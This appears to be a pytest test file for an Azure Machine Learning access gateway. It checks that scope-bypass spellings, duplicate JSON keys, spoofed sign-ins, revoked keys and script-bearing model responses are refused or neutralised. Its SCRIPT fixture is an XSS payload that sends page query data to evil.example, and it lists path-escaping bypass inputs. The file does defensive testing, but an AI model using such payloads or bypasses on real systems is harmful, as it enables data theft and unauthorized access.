"""Ways around roles, scopes and the second person that look like something else; content of others that would run in a browser."""

from __future__ import annotations

import io
import json
import zipfile
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from urllib3 import encode_multipart_formdata

from shared import services
from shared.catalog import grants
from shared.catalog.grants import Grant
from shared.chains.asked import Call
from shared.hooks import rule_requests
from shared.rest import errors
from shared.rest.client import Response
from tests.fake_azure import SUBSCRIPTION
from tests.unit.http.test_roles_and_scopes import BODY, GROUP, code, name_key, principal, settings

if TYPE_CHECKING:
    from collections.abc import Mapping

    from shared.catalog.paths import Target
    from tests.unit.http.conftest import App

ML = f"{GROUP}/providers/Microsoft.MachineLearningServices"
SCRIPT = b"<script>fetch('https://evil.example/'+location.search)</script>"
PLAIN = json.dumps({"properties": {"modelUri": "azureml://datastores/d/paths/p", "modelType": "custom_model"}})
ELSEWHERE = (
    f"{GROUP}//providers/Microsoft.MachineLearningServices/workspaces/other",
    f"{GROUP}/providers/Microsoft.MachineLearningServices//workspaces//other",
    f"{GROUP}%2Fproviders%2FMicrosoft.MachineLearningServices%2Fworkspaces%2Fother",
    "%2Fsubscriptions%2Fother%2FresourceGroups%2Fg",
    "/subscriptions//other/resourceGroups/g",
    f"azureml://{ML[1:]}/workspaces/other/datastores/d/paths/p",
    "azureml://locations/westeurope/workspaces/11111111-2222-4333-8444-5555aaaa6666/models/m/versions/1",
    "AzureML://Locations/westeurope/workspaces/11111111-2222-4333-8444-5555aaaa6666",
)


def asked_call(**more: Any) -> Call:
    """A request of a rule's step."""
    return Call(headers={}, body=None, key="k", caller="rule:r", firing="f" * 40, depth=1, **more)


@pytest.mark.parametrize("named", ELSEWHERE)
def test_no_spelling_of_another_place_gets_past_a_scope(app: App, named: str) -> None:
    """Empty segments, escapes, and a workspace's GUID, which says nothing of where it is; in a body and in a query."""
    key = name_key(app, "one", "operator", below=["workspaces/work1"])
    content = json.dumps({"properties": {"modelUri": named, "modelType": "custom_model"}})
    before = len(app.steward.azure.requests)
    for query in ("", "?preflight=true"):
        answer = app.send("PUT", f"workspaces/work1/models/m/versions/1{query}", content, x_functions_key=key)
        assert (answer.status, code(answer)) == (403, "OutOfScope"), answer.content
    asked = quote(named, safe="")
    answer = app.send("PUT", f"workspaces/work1/models/m/versions/1?$filter={asked}", PLAIN, x_functions_key=key)
    assert (answer.status, code(answer)) == (403, "OutOfScope"), answer.content
    assert len(app.steward.azure.requests) == before


@pytest.mark.parametrize(
    ("media", "content"),
    [
        *(
            ("text/plain", f"{{'a': '{slash}{first}ubscriptions{slash}other{slash}resourceGroups{slash}g'}}")
            for slash, first in (("/", "s"), (r"\/", "s"), (r"\u002f", "s"), (r"\u002F", "s"), ("/", r"\u0073"))
        ),
        ("application/json", '{"a": "/subscriptions/other/resourceGroups/g", "a": "some readers take the first"}'),
        ("application/json", '{"a": [{"b": {"/subscriptions/other/resourceGroups/g": 1}, "b": {}}]}'),
    ],
)
def test_what_is_handed_on_names_no_other_place_in_any_writing(app: App, media: str, content: str) -> None:
    """A body that is no JSON here may be some to a lenient reader in Azure; one that is may say more to it than to ours."""
    key = name_key(app, "one", "operator", below=["workspaces/work1"])
    before = len(app.steward.azure.requests)
    path = "history/v1.0/workspaces/work1/experimentids/e"
    answer = app.send("PATCH", path, content, x_functions_key=key, content_type=media)
    assert (answer.status, code(answer)) == (403, "OutOfScope"), answer.content
    assert len(app.steward.azure.requests) == before


def test_a_run_definition_is_handed_on_as_it_came_and_so_it_is_looked_at(app: App) -> None:
    """Of two members of one name the app's reader takes the last."""
    key = name_key(app, "one", "operator", below=["workspaces/work1"])
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("train.py", "")
    target = "/subscriptions/other/resourceGroups/g/providers/Microsoft.MachineLearningServices/workspaces/w/computes/c"
    definition = f'{{"Configuration": {{"Script": "train.py", "Target": "{target}", "Target": "local"}}}}'
    content, media = encode_multipart_formdata({
        "projectZipFile": ("p.zip", archive.getvalue(), "application/zip"),
        "runDefinitionFile": ("r.json", definition.encode(), "application/json"),
    })  # fmt: skip
    path, before = "workspaces/work1/experiments/e/startrun", len(app.steward.azure.requests)
    answer = app.send("POST", path, content, x_functions_key=key, content_type=media)
    assert (answer.status, code(answer)) == (403, "OutOfScope"), answer.content
    assert len(app.steward.azure.requests) == before


@pytest.mark.parametrize("depth", [1_500, 100_000])
def test_what_is_nested_without_an_end_is_refused_to_a_limited_caller_too(app: App, depth: int) -> None:
    """Its places are looked for before the body is read as what it is."""
    key = name_key(app, "one", "operator", below=["workspaces/work1"])
    content = "[" * depth + '"x"' + "]" * depth
    answer = app.send("PATCH", "history/v1.0/workspaces/work1/experimentids/e", content, x_functions_key=key)
    assert (answer.status, code(answer)) == (400, "InvalidRequestContent"), answer.content


def test_the_workspaces_own_guid_is_known_where_the_app_wrote_it() -> None:
    """A model's package carries it."""
    held = (Grant(role="operator", below=(f"{ML}/workspaces/work1".lower(),)),)
    body = {"targetEnvironmentId": "azureml://locations/westeurope/workspaces/GUID-1/environments/e"}
    grants.check_named(held, "key:one", body, own="guid-1")
    with pytest.raises(errors.BadRequestError, match="by its GUID"):
        grants.check_named(held, "key:one", body, own="guid-2")


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        (
            "PUT",
            "registries/reg1",
            {
                "location": "westeurope",
                "properties": {
                    "regionDetails": [{"storageAccountDetails": [{"systemCreatedStorageAccount": {"allowBlobPublicAccess": True}}]}]
                },
            },
            "allowBlobPublicAccess",
        ),
        ("PATCH", "workspaces/work1", {"properties": {"primaryUserAssignedIdentity": f"{GROUP}/x"}}, "primaryUserAssignedIdentity"),
    ],
)
def test_what_opens_something_is_an_admins_however_deep_it_is(
    app: App, method: str, path: str, body: dict[str, Any], field: str
) -> None:
    """Also in the items of lists."""
    key = name_key(app, "ci", "operator")
    answer = app.send(method, path, json.dumps(body), x_functions_key=key)
    assert (answer.status, code(answer), field in answer.said) == (403, "RoleNeeded", True), answer.content


@pytest.mark.parametrize("path", ["", "/", "/keys", "//keys"])
def test_a_patch_of_the_whole_sets_what_it_holds(path: str) -> None:
    """A JSON Patch without a path replaces everything."""
    from shared.catalog import kinds

    services_kind = next(kind for kind in kinds.KINDS if "keys" in kind.guarded)
    value: Any = "x" if path.endswith("keys") else {"keys": {"primaryKey": "x"}}
    assert grants.guarded(services_kind, [{"op": "replace", "path": path, "value": value}]) == "keys"


@pytest.mark.parametrize("name", ["key:ann", "rule:nightly", "RECIPE:x", "function key", "expiry:1"])
def test_a_sign_in_has_no_other_senders_name(app: App, name: str) -> None:
    """Its directory gives the name, and some may choose theirs: it is not the key, the rule or the host's key of that name."""
    settings(signed_in=True)
    headers = principal("Steward.Operator") | {"x_ms_client_principal_name": name}
    made = app.send("PUT", "workspaces/work1", BODY, **headers, prefer="respond-async")
    assert made.body["properties"]["caller"] == f"sign-in {name}"
    assert app.send("GET", f"operations?caller={name}").body["value"] == []


@pytest.mark.parametrize("header", ["%%%", "e30=", "bm90IGpzb24="])
def test_a_sign_in_whose_roles_cannot_be_read_has_none(app: App, header: str) -> None:
    """It does not fall back to what the key beside it may."""
    settings(signed_in=True)
    answer = app.send("GET", "keys", x_ms_client_principal=header, x_ms_client_principal_name="ada@contoso.com")
    assert (answer.status, code(answer)) == (403, "SignInUnreadable")


def test_a_rule_that_starts_a_recipe_waits_as_one_that_deletes(app: App) -> None:
    """The recipe may delete, now or when it is put again."""
    settings(approvals=frozenset({"rules"}))
    file = json.dumps({"rules": [{"name": "r", "on": {"types": ["contoso.any"]}, "do": [{"request": "POST recipes/teardown"}]}]})
    asked = app.send("PUT", "events/rules/r", file, content_type="application/yaml")
    assert (asked.status, asked.body["what"]) == (202, "rules"), asked.content


class Model:
    """A model that answers with a page."""

    def score(self, _target: Target, _content: bytes, _headers: Mapping[str, str]) -> Response:
        """See Scoring.score."""
        headers = {"content-type": "text/html", "content-security-policy": "script-src *"}
        return Response(status=200, url="https://e", headers=headers, content=SCRIPT)


def test_what_a_model_answers_runs_in_no_browser(app: App, monkeypatch: pytest.MonkeyPatch) -> None:
    """It comes from the app's own address, where the dashboard has the reader's key."""
    monkeypatch.setitem(services.get().__dict__, "scoring", Model())
    answer = app.send("POST", "workspaces/w1/onlineEndpoints/e/score", b"{}")
    assert (answer.status, answer.content, answer.headers["content-type"]) == (200, SCRIPT, "text/html")
    assert answer.headers["content-security-policy"].startswith("default-src 'none'; ")
    assert answer.headers["x-content-type-options"] == "nosniff"
    for path in ("operations", "workspaces/w1/jobs/j/logs", "nowhere", f"subscriptions/{SUBSCRIPTION}"):
        found = app.send("GET", path).headers
        assert (found["x-content-type-options"], "script-src" in found["content-security-policy"]) == ("nosniff", False)


def test_what_a_revoked_key_asked_for_is_not_done_when_it_is_approved(app: App) -> None:
    """Nor may the rules that it wrote ask for anything."""
    settings(approvals=frozenset({"workspaces"}))
    for name in ("ann", "bob"):
        name_key(app, name, "admin")
    assert app.send("PUT", "workspaces/work1", BODY).status in (200, 201, 202)
    app.steward.drive()
    asked = app.send("DELETE", "workspaces/work1", x_functions_key="secret-ann").body
    rule = {"rules": [{"name": "r", "on": {"types": ["contoso.any"]}, "do": [{"request": "GET workspaces/work1"}]}]}
    assert app.send("PUT", "events/rules/r", json.dumps(rule), x_functions_key="secret-ann").status == 200
    (author,) = [each.author for each in services.get().rules]
    step = asked_call(method="GET", path="workspaces/work1", author=author)
    assert rule_requests.perform(step, services.get()).status == 200
    assert app.send("DELETE", "keys/ann").status == 200
    answer = app.send("POST", f"approvals/{asked['name']}/approve", x_functions_key="secret-bob")
    assert (answer.status, code(answer), app.steward.azure.count("DELETE")) == (403, "KeyRevoked", 0)
    assert rule_requests.perform(step, services.get()).body["error"]["code"] == "KeyRevoked"


@pytest.mark.parametrize("first", ["key", "sign-in"])
def test_nobody_is_a_second_person_by_leaving_the_sign_in_out(app: App, first: str) -> None:
    """One key, once with a sign-in and once without; two sign-ins may share a key."""
    settings(approvals=frozenset({"workspaces"}), signed_in=True)
    key = name_key(app, "team", "admin")
    ada, bob = principal("Steward.Admin"), principal("Steward.Admin") | {"x_ms_client_principal_name": "bob@contoso.com"}
    assert app.send("PUT", "workspaces/work1", BODY).status in (200, 201, 202)
    app.steward.drive()
    ways: list[dict[str, str]] = [{}, ada] if first == "key" else [ada, {}]
    asked = app.send("DELETE", "workspaces/work1", x_functions_key=key, **ways[0]).body
    answer = app.send("POST", f"approvals/{asked['name']}/approve", x_functions_key=key, **ways[1])
    assert (answer.status, code(answer)) == (403, "SecondPersonNeeded")
    other = app.send("POST", f"approvals/{asked['name']}/approve", x_functions_key=key, **bob)
    assert other.status == (403 if first == "key" else 202), other.content
